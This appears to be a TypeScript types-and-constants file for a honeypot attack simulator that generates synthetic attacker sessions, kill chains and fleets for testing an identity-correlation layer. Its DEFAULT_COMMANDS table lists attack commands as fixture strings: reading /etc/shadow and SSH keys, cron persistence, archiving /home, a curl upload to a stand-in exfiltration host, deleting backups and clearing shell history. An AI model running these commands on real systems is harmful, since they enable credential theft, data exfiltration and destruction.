/**
 * Data shapes of the fixture simulator: the validated DSL (`CorpusSpec`, every default filled in)
 * and the generated corpus (`AttackerRow`), plus the constants of REFERENCE §6.2.
 * Field names are snake_case like the DSL and the wire contract.
 */
import type { Phase } from '../domain/phases.ts';
import type { EpochSeconds } from '../domain/identity-events.ts';

/** E = 2026-01-01T00:00:00Z, the epoch every generated timestamp is relative to. */
export const SIM_EPOCH: EpochSeconds = Date.UTC(2026, 0, 1) / 1000;

/** `decky-01` … `decky-20`, the fleet every random target is drawn from. */
export const DECKY_POOL: readonly string[] = Array.from({ length: 20 }, (_, i) => `decky-${String(i + 1).padStart(2, '0')}`);

/**
 * Commands a session carries when its phase has no `tool_signature.commands` (REFERENCE §6.2).
 * Only the counts are pinned by the reference; the strings are ours and must stay stable,
 * because the identity layer's medium tier compares them.
 */
export const DEFAULT_COMMANDS: Readonly<Record<Phase, readonly string[]>> = {
  reconnaissance: [],
  resource_development: [],
  weaponization: [],
  social_engineering: [],
  delivery: [],
  exploitation: [],
  command_and_control: [],
  pivoting: [],
  objectives: [],
  discovery: ['uname -a', 'id', 'whoami', 'cat /etc/passwd', 'ip addr', 'ps aux'],
  credential_access: ['cat /etc/shadow', 'find / -name id_rsa', 'cat ~/.bash_history'],
  persistence: ['crontab -l', 'echo "* * * * * /tmp/.x" | crontab -', 'chmod +x /tmp/.x'],
  privilege_escalation: ['sudo -l', 'find / -perm -4000'],
  lateral_movement: ['ssh-keyscan 10.0.0.0/24', 'ssh root@10.0.0.2'],
  collection: ['tar czf /tmp/loot.tgz /home'],
  exfiltration: ['curl -T /tmp/loot.tgz https://exfil.example'],
  execution: ['sh /tmp/.x'],
  impact: ['rm -rf /var/backups'],
  defense_evasion: ['unset HISTFILE', 'history -c'],
};

export type Credential = readonly [user: string, password: string];

export interface ActorSpec {
  readonly id: string;
  /** DSL default 0 (and 0 is a real ASN for every consumer); null only when written as null. */
  readonly asn: number | null;
  readonly ip_pool: string;
  readonly rotation_count: number;
  readonly rotation_asns: readonly number[];
  readonly ja3: string | null;
  readonly hassh: string | null;
  readonly hours_active_utc: readonly number[];
  readonly jitter_seconds: number;
  /** null = absent (every non-paused day). */
  readonly active_days: readonly number[] | null;
  /**
   * campaign-stream extension (the reference ignores it): the actor's keystroke digraph
   * SimHash, 16 hex digits, carried by every session. Consumes no random draw.
   */
  readonly keystroke: string | null;
}

export interface PhaseSpec {
  readonly name: Phase;
  /** Resolved: the declared actor, or the campaign's first actor. */
  readonly actor: string;
  /** Resolved: the explicit list, or DEFAULT_COMMANDS[name]. */
  readonly commands: readonly string[];
  readonly credentials: readonly Credential[];
  readonly c2_callback: string | null;
  /** The seed string; sessions carry SHA-256 hex of its UTF-8 bytes. */
  readonly payload_seed: string | null;
  readonly count: number;
  /** `previous_success` or anything else (uniform over the pool); kept verbatim. */
  readonly decky_selector: string | null;
  /**
   * campaign-stream extension: target the foothold (latest exploitation or persistence decky)
   * of this other actor, as `previous_success` does for the phase's own actor. Consumes the
   * same draw as `previous_success`, so the random stream is unchanged.
   */
  readonly decky_of: string | null;
  readonly dwell_seconds: number;
}

export interface CampaignSpec {
  readonly id: string;
  readonly duration_days: number;
  readonly pause_windows: readonly (readonly [number, number])[];
  readonly actors: readonly ActorSpec[];
  readonly phases: readonly PhaseSpec[];
}

export interface CorpusSpec {
  readonly campaigns: readonly CampaignSpec[];
  readonly noise_scanners: number;
  /** The `fleet:` form (campaign-stream extension); when present, campaigns is empty and noise 0. */
  readonly fleet?: FleetSpec;
}

/** `decky-01` … `decky-NN`: a fleet's deckies (the reference pool is the first 20). */
export const fleetDeckies = (n: number): string[] => Array.from({ length: n }, (_, i) => `decky-${String(i + 1).padStart(2, '0')}`);

/** One step of a bot's kill chain (docs/SIMULATOR.md, "Fleets"). */
export interface StepSpec {
  /** Drawn uniformly when more than one. */
  readonly phases: readonly Phase[];
  /** `new`: uniform over the fleet; `same`: the previous step's decky. */
  readonly decky: 'new' | 'same';
  /** Inclusive seconds after the previous step's start (may be negative); unused for a chain's first step. */
  readonly after: readonly [number, number];
  /** Inclusive session length in seconds. */
  readonly dwell: readonly [number, number];
  /** Probability that the step happens at all (a skipped step moves nothing). */
  readonly chance: number;
  /** Reported this many seconds after the chain's latest start so far; null = reported at its start. */
  readonly reported_after: readonly [number, number] | null;
  /** The session carries the bot's commodity payload / commodity C2. */
  readonly payload: boolean;
  readonly c2: boolean;
}

export interface KillChainSpec {
  readonly name: string;
  readonly weight: number;
  readonly steps: readonly StepSpec[];
}

export interface BotsSpec {
  readonly count: number;
  /** Inclusive ASN range each bot draws from. */
  readonly asn_range: readonly [number, number];
  readonly kill_chains: readonly KillChainSpec[];
}

/** A fixture embedded `count` times, each instance with its own tokens, day offset and truth. */
export interface CrewTemplateSpec {
  /** Names the instances: `<name>-<k>`; unique in the fleet. */
  readonly name: string;
  readonly count: number;
  readonly corpus: CorpusSpec;
}

export interface FleetSpec {
  readonly id: string;
  readonly deckies: number;
  readonly duration_days: number;
  readonly commodity_payloads: number;
  readonly commodity_c2: number;
  readonly hot_c2: number;
  /** Share of fingerprinted rows (bots and crew rows) with one sighting of a hot C2. */
  readonly hot_share: number;
  readonly bots: BotsSpec;
  readonly crews: readonly CrewTemplateSpec[];
}

export interface SimSession {
  readonly id: string;
  readonly start: EpochSeconds;
  readonly duration: number;
  readonly end: EpochSeconds;
  readonly decky: string;
  readonly phase: Phase;
  readonly commands: readonly string[];
  readonly credentials: readonly Credential[];
  readonly c2_callback: string | null;
  readonly payload_hash: string | null;
  /** keystroke SimHash (hex-16) of the session, from the actor's `keystroke` extension */
  readonly keystroke: string | null;
  /**
   * Fleet extension: when the session's report reaches the stream (its event time), if later
   * than its start — a late observation that can change a first or last phase after the fact.
   * Absent for every reference row.
   */
  readonly reported?: EpochSeconds;
}

/**
 * Fleet extension: the identity was seen talking to a C2 endpoint, with no session on a decky
 * and no kill-chain phase (an egress or DNS sensor's report). Emitted as an observation with
 * only `c2_endpoints`, so it adds infrastructure without touching phases or time windows.
 */
export interface SimSighting {
  readonly id: string;
  readonly time: EpochSeconds;
  readonly c2_callback: string;
}

export interface RowTruth {
  readonly campaign: string;
  readonly actor: string;
  readonly identity: string;
  /**
   * Fleet extension: the row belongs to the background (a bot or a noise scanner), a singleton
   * by construction. Absent for reference rows, whose noise scanners are recognised by label.
   */
  readonly background?: boolean;
}

/** One per-IP attacker row, as the reference factory produces it. */
export interface AttackerRow {
  readonly id: string;
  readonly ip: string;
  readonly asn: number | null;
  readonly ja3: string | null;
  readonly hassh: string | null;
  readonly truth: RowTruth;
  readonly first_seen: EpochSeconds;
  readonly last_seen: EpochSeconds;
  /** In emission order (phase declaration order), not time order. */
  readonly sessions: readonly SimSession[];
  /** Fleet extension: infrastructure-only sightings; absent for reference rows. */
  readonly sightings?: readonly SimSighting[];
}

/** True for a fleet bot or a noise scanner (the reference labels those `noise-scanner-NNNN`). */
export const isBackground = (t: RowTruth): boolean => t.background === true || /^noise-scanner-\d+$/.test(t.campaign);
